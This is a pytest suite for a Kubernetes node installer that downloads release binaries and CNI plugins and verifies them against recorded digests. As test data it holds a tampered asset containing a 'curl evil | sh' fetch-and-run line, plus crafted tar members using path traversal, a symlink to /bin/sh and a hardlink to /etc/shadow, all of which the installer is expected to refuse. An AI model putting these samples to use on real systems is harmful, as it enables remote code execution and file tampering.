"""The release path on the device (firstboot/release.py, node.json kube_install: release): kubeadm, kubelet, kubectl,
crictl and the CNI plugins from their upstream URLs (a local server at the real paths) or the card's bundle, each
checked against the digest the build wrote into node.json before it is put in place."""

import hashlib
import io
import json
import os
import stat
import tarfile
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from firstboot import localsetup, pacman, release
from firstboot.bundle import BUNDLE_DIR, Bundle
from firstboot.commands import CommandResult
from firstboot.errors import SetupFailed
from firstboot.nodeconfig import ConfigError, NodeConfig, ReleaseSettings
from firstboot.release import RECORD, ReleaseInstall

KUBERNETES = "1.31.4"
CRICTL = "crictl-v1.31.1-linux-arm64.tar.gz"
CNI = "cni-plugins-linux-arm64-v1.5.1.tgz"


def tarball(members) -> bytes:
    """A .tar.gz of (TarInfo fields, bytes or None) pairs."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for fields, data in members:
            info = tarfile.TarInfo(fields["name"])
            for key, value in fields.items():
                setattr(info, key, value)
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def executable(name):
    return {"name": name, "mode": 0o755}


ASSETS = {
    "kubelet": b"#!/bin/sh\necho 'Kubernetes v1.31.4'\n",
    "kubeadm": b"#!/bin/sh\necho v1.31.4\n",
    "kubectl": b"#!/bin/sh\necho kubectl\n",
    CRICTL: tarball([(executable("crictl"), b"crictl binary")]),
    CNI: tarball([({"name": "./", "type": tarfile.DIRTYPE, "mode": 0o755}, None),
                  (executable("./bridge"), b"bridge plugin"), (executable("./loopback"), b"loopback plugin"),
                  ({"name": "./LICENSE", "mode": 0o644}, b"Apache-2.0")]),
}
PATHS = {"kubelet": "release/v1.31.4/bin/linux/arm64/kubelet", "kubeadm": "release/v1.31.4/bin/linux/arm64/kubeadm",
         "kubectl": "release/v1.31.4/bin/linux/arm64/kubectl", CRICTL: "crictl/v1.31.1/" + CRICTL,
         CNI: "cni/v1.5.1/" + CNI}


class Mirror:
    """dl.k8s.io and the GitHub release pages on 127.0.0.1: `files` (path -> bytes), every GET in `requests`."""

    def __init__(self, files):
        self.files = dict(files)
        self.requests = []
        mirror = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format, *args):
                pass

            def do_GET(self):
                path = self.path.lstrip("/")
                mirror.requests.append(path)
                if path not in mirror.files:
                    self.send_error(404)
                    return
                self.send_response(200)
                self.send_header("Content-Length", str(len(mirror.files[path])))
                self.end_headers()
                self.wfile.write(mirror.files[path])

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()
        self.url = "http://127.0.0.1:{}".format(self.server.server_address[1])

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def mirror():
    server = Mirror({PATHS[name]: data for name, data in ASSETS.items()})
    yield server
    server.close()


def settings_for(url, assets=ASSETS) -> ReleaseSettings:
    return ReleaseSettings(kube_url=url + "/release", crictl_url=url + "/crictl", crictl_version="v1.31.1",
                           cni_url=url + "/cni", cni_version="v1.5.1", arch="arm64",
                           sha256={name: hashlib.sha256(data).hexdigest() for name, data in assets.items()})


class NoBundle:
    """A card without an offline bundle."""

    present = False


NO_BUNDLE = NoBundle()


def install(root: Path, url, assets=ASSETS, version=KUBERNETES, bundle=NO_BUNDLE) -> bool:
    return ReleaseInstall(str(root), settings_for(url, assets), version, bundle).run()


def test_the_release_is_installed_into_usr_local_bin_and_opt_cni_bin(tmp_path, mirror):
    assert install(tmp_path, mirror.url) is True

    for tool in ("kubelet", "kubeadm", "kubectl"):
        path = tmp_path / "usr/local/bin" / tool
        assert path.read_bytes() == ASSETS[tool]
        assert stat.S_IMODE(path.stat().st_mode) == 0o755
    assert (tmp_path / "usr/local/bin/crictl").read_bytes() == b"crictl binary"
    assert stat.S_IMODE((tmp_path / "usr/local/bin/crictl").stat().st_mode) == 0o755
    cni = tmp_path / "opt/cni/bin"
    assert sorted(os.listdir(cni)) == ["LICENSE", "bridge", "loopback"], "no temporary file is left behind"
    assert stat.S_IMODE((cni / "bridge").stat().st_mode) == 0o755
    assert stat.S_IMODE((cni / "LICENSE").stat().st_mode) == 0o644
    assert sorted(os.listdir(tmp_path / "usr/local/bin")) == ["crictl", "kubeadm", "kubectl", "kubelet"]
    record = json.loads((tmp_path / RECORD.lstrip("/")).read_text())
    assert record[CNI]["files"]["opt/cni/bin/bridge"] == hashlib.sha256(b"bridge plugin").hexdigest()
    assert sorted(mirror.requests) == sorted(PATHS.values())


def test_a_second_run_fetches_nothing_and_a_changed_binary_is_fetched_again(tmp_path, mirror):
    install(tmp_path, mirror.url)
    mirror.requests.clear()

    assert install(tmp_path, mirror.url) is False
    assert mirror.requests == [], "a reboot downloads nothing"

    (tmp_path / "usr/local/bin/kubelet").write_bytes(b"someone else's kubelet")
    (tmp_path / "opt/cni/bin/bridge").unlink()
    assert install(tmp_path, mirror.url) is True
    assert sorted(mirror.requests) == sorted([PATHS["kubelet"], PATHS[CNI]])
    assert (tmp_path / "usr/local/bin/kubelet").read_bytes() == ASSETS["kubelet"]
    assert (tmp_path / "opt/cni/bin/bridge").read_bytes() == b"bridge plugin"


def test_a_binary_already_in_place_with_the_right_digest_is_not_fetched(tmp_path, mirror):
    (tmp_path / "usr/local/bin").mkdir(parents=True)
    (tmp_path / "usr/local/bin/kubeadm").write_bytes(ASSETS["kubeadm"])

    install(tmp_path, mirror.url)

    assert PATHS["kubeadm"] not in mirror.requests


def test_a_tampered_asset_is_refused_naming_it_and_both_digests_and_nothing_is_installed(tmp_path, mirror):
    mirror.files[PATHS["kubelet"]] = b"#!/bin/sh\ncurl evil | sh\n"

    with pytest.raises(SetupFailed) as failure:
        install(tmp_path, mirror.url)

    message = str(failure.value)
    assert not failure.value.retry
    assert "kubelet from {}/{}".format(mirror.url, PATHS["kubelet"]) in message
    assert hashlib.sha256(b"#!/bin/sh\ncurl evil | sh\n").hexdigest() in message
    assert hashlib.sha256(ASSETS["kubelet"]).hexdigest() in message
    assert "rebuild the card" in message and "check the mirror" in message
    assert os.listdir(tmp_path / "usr/local/bin") == [], "neither the asset nor its temporary file"


def test_a_release_that_does_not_exist_is_named_with_its_url(tmp_path, mirror):
    with pytest.raises(SetupFailed) as failure:
        install(tmp_path, mirror.url, version="1.31.99")

    assert str(failure.value).startswith("release v1.31.99 does not exist at {}/release/v1.31.99/bin/linux/arm64/"
                                         "kubelet (HTTP 404): check kube_release_url".format(mirror.url))
    assert not failure.value.retry


def test_an_unreachable_mirror_is_retried_with_the_fix(tmp_path, mirror):
    mirror.close()

    with pytest.raises(SetupFailed, match="cannot download kubelet from .*: check the node's network") as failure:
        install(tmp_path, mirror.url)
    assert failure.value.retry


def test_an_asset_larger_than_the_bound_is_refused(tmp_path, mirror, monkeypatch):
    monkeypatch.setattr(release, "MAX_ASSET_BYTES", 16)

    with pytest.raises(SetupFailed, match="is .*more than any release asset") as failure:
        install(tmp_path, mirror.url)
    assert not failure.value.retry


@pytest.mark.parametrize("member", [
    {"name": "../evil", "mode": 0o755},
    {"name": "/etc/cron.d/evil", "mode": 0o644},
    {"name": "sub/bridge", "mode": 0o755},
    {"name": "./bridge", "type": tarfile.SYMTYPE, "linkname": "/bin/sh"},
    {"name": "./bridge", "type": tarfile.LNKTYPE, "linkname": "../../etc/shadow"},
    {"name": "./null", "type": tarfile.CHRTYPE, "devmajor": 1, "devminor": 3},
], ids=["dot-dot", "absolute", "subdirectory", "symlink", "hardlink", "device"])
def test_an_archive_member_that_is_not_a_plain_file_refuses_the_archive(tmp_path, member):
    hostile = tarball([(executable("./loopback"), b"loopback plugin"),
                       (member, b"x" if member.get("type", tarfile.REGTYPE) == tarfile.REGTYPE else None)])
    assets = dict(ASSETS, **{CNI: hostile})  # the digest matches: the build was fooled, the device still refuses
    server = Mirror({PATHS[name]: data for name, data in assets.items()})
    try:
        with pytest.raises(SetupFailed, match="{} holds '{}', which is not a plain regular file".format(
                CNI, member["name"])) as failure:
            install(tmp_path, server.url, assets)
    finally:
        server.close()
    assert not failure.value.retry
    assert not (tmp_path / "etc").exists() and not (tmp_path / "opt/evil").exists()
    assert not (tmp_path / "opt/cni/bin/bridge").exists() and not (tmp_path / "opt/cni/bin/sub").exists()


def write_release_bundle(root: Path, names=tuple(ASSETS)) -> None:
    """An offline bundle holding the release assets `names` (and nothing else)."""
    directory = root / BUNDLE_DIR.lstrip("/")
    (directory / "release").mkdir(parents=True)
    entries = []
    for name in names:
        (directory / "release" / name).write_bytes(ASSETS[name])
        entries.append({"file": "release/" + name, "sha256": hashlib.sha256(ASSETS[name]).hexdigest(),
                        "size": len(ASSETS[name])})
    (directory / "bundle.json").write_text(json.dumps({"kubernetes": KUBERNETES, "platform": "linux/arm64",
                                                       "packages": [], "images": [], "release": entries}))


def test_a_card_with_a_bundle_installs_the_release_from_it_and_asks_no_network(tmp_path, mirror):
    write_release_bundle(tmp_path)

    install(tmp_path, mirror.url, bundle=Bundle(str(tmp_path)))

    assert mirror.requests == []
    assert (tmp_path / "usr/local/bin/kubeadm").read_bytes() == ASSETS["kubeadm"]
    assert (tmp_path / "opt/cni/bin/loopback").read_bytes() == b"loopback plugin"


def test_a_bundle_without_a_release_asset_names_it(tmp_path, mirror):
    write_release_bundle(tmp_path, names=("kubelet", "kubeadm", "kubectl", CNI))

    with pytest.raises(SetupFailed, match="the card's bundle has no {}.*rebuild the card with --offline".format(
            CRICTL.replace(".", r"\."))) as failure:
        install(tmp_path, mirror.url, bundle=Bundle(str(tmp_path)))
    assert not failure.value.retry and mirror.requests == []


class Packages:
    """dpkg-query, apt-get, apt-mark, systemctl as a fresh node answers them: nothing installed."""

    def __init__(self):
        self.calls = []

    def run(self, argv, input_text=None, timeout=None):
        self.calls.append(argv)
        return CommandResult(argv, 0, "", "")

    def available(self, tool):
        return True


def release_setup(tmp_path, url, package_manager="apt"):
    commands = Packages()
    setup = localsetup.LocalSetup(str(tmp_path), commands, runtime_packages=["containerd", "conntrack", "socat"],
                                  package_manager=package_manager, kube_install="release",
                                  release=settings_for(url), kubernetes_release=KUBERNETES)
    setup.runtime.problem = lambda: None  # containerd answers
    return setup, commands


def test_on_the_release_path_apt_installs_the_runtime_and_dependencies_and_release_py_the_rest(tmp_path, mirror):
    setup, commands = release_setup(tmp_path, mirror.url)

    setup.install_packages()

    [install_call] = [call for call in commands.calls if call[:2] == ["apt-get", "install"]]
    assert install_call[-3:] == ["containerd", "conntrack", "socat"]
    assert not [call for call in commands.calls if call[0] == "apt-mark"], "no kube package to hold"
    assert ["systemctl", "enable", "--no-reload", "kubelet"] in commands.calls
    assert (tmp_path / "usr/local/bin/kubelet").read_bytes() == ASSETS["kubelet"]


def test_on_the_release_path_pacman_holds_the_kube_packages_so_arch_never_replaces_them(tmp_path, mirror,
                                                                                        monkeypatch):
    held = []

    class RecordingPacman:
        def __init__(self, commands, root="/", sleep=None):
            pass

        def missing(self, packages):
            return []

        def hold(self, names):
            held.extend(names)

    monkeypatch.setattr(pacman, "Pacman", RecordingPacman)
    setup, _ = release_setup(tmp_path, mirror.url, package_manager="pacman")

    setup.install_packages()

    assert held == ["kubelet", "kubeadm", "kubectl"]


RELEASE_NODE = {"node": "arch1", "role": "worker", "kubernetes_version": "1.31", "runtime": "containerd",
                "runtime_packages": ["containerd", "conntrack-tools"], "package_manager": "pacman",
                "kube_install": "release", "kubernetes_release": KUBERNETES,
                "release": settings_for("https://dl.example").to_json()}


def test_node_json_of_the_release_path_reads_back_byte_for_byte():
    config = NodeConfig.from_json(RELEASE_NODE)

    assert (config.package_manager, config.kube_install, config.release.arch) == ("pacman", "release", "arm64")
    assert config.to_json() == RELEASE_NODE
    assert [name for name, _ in config.release.assets(KUBERNETES)] == ["kubelet", "kubeadm", "kubectl", CRICTL, CNI]
    plain = NodeConfig.from_json({"node": "pi", "kubernetes_version": "1.31", "runtime": "containerd"})
    assert (plain.package_manager, plain.kube_install, plain.release) == ("apt", "packages", None)
    assert set(plain.to_json()).isdisjoint({"package_manager", "kube_install", "release"}), "old bytes unchanged"


@pytest.mark.parametrize("change, error", [
    ({"release": None}, "kube_install release needs the keys release and kubernetes_release"),
    ({"kubernetes_release": None}, "kube_install release needs the keys release and kubernetes_release"),
    ({"kubernetes_release": "1.30.2"}, "kubernetes_release must be the exact release (1.31.4) of kubernetes_version"),
    ({"kube_install": "snap"}, "kube_install must be one of packages, release, not 'snap'"),
    ({"package_manager": "dnf"}, "package_manager must be one of apt, pacman, not 'dnf'"),
    ({"kube_install": "packages"}, "release is set but kube_install is 'packages'"),
    ({"release": dict(RELEASE_NODE["release"], kube_url="ftp://mirror")}, "release.kube_url must be an http(s)://"),
    ({"release": dict(RELEASE_NODE["release"], arch="riscv64")}, "release.arch must be one of amd64, arm64"),
    ({"release": dict(RELEASE_NODE["release"], cni_version="1.5.1")}, "release.cni_version must look like v1.2.3"),
    ({"release": dict(RELEASE_NODE["release"], sha256={"kubelet": "0" * 64})},
     "release.sha256 has no digest for kubeadm, kubectl, " + CRICTL),
    ({"release": dict(RELEASE_NODE["release"], sha256=dict(settings_for("x").sha256, kubelet="AB" * 32))},
     "release.sha256.kubelet must be 64 lowercase hex digits"),
], ids=lambda value: str(value)[:40])
def test_a_bad_release_block_is_named(change, error):
    with pytest.raises(ConfigError, match="^node.json: " + error.replace("(", r"\(").replace(")", r"\)")):
        NodeConfig.from_json({key: value for key, value in dict(RELEASE_NODE, **change).items() if value is not None})
